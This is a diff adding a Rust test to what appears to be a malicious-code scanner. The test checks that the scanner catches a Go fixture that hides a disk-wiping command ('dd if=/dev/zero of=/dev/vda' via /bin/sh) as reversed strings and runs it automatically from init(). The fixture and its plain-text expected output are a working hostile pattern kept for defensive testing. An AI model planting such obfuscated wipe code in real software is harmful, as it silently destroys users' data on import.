@@ -232,3 +232,19 @@ fn go_commands_read_from_a_connection_and_run_by_a_shell_are_download_exec() {
     let out = flows(&[("fix/db.go", go)]);
     assert_eq!(ends(&out), vec![(RuleId::DownloadExec, "fix/db.go".to_owned(), 18, Some("fix/db.go".to_owned()), 14)]);
 }
+
+#[test]
+fn go_wipe_command_kept_reversed_and_turned_by_a_swap_loop_is_wipe_command() {
+    let go = "package p\n\nimport \"os/exec\"\n\nfunc r(s string) string {\n\tb := []rune(s)\n\
+              \tfor i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {\n\t\tb[i], b[j] = b[j], b[i]\n\t}\n\treturn string(b)\n}\n\n\
+              var c = []string{\"hs/nib/\", \"c-\", \"adv/ved/=fo orez/ved/=fi dd\"}\n\n\
+              func init() {\n\texec.Command(r(c[0]), r(c[1]), r(c[2])).Run()\n}\n";
+    let out = flows(&[("p/platform.go", go)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!((out[0].finding.rule, out[0].finding.line), (RuleId::WipeCommand, 16));
+    assert!(
+        out[0].finding.note.as_deref().unwrap_or("").contains("dd if=/dev/zero of=/dev/vda"),
+        "{:?}",
+        out[0].finding.note
+    );
+}
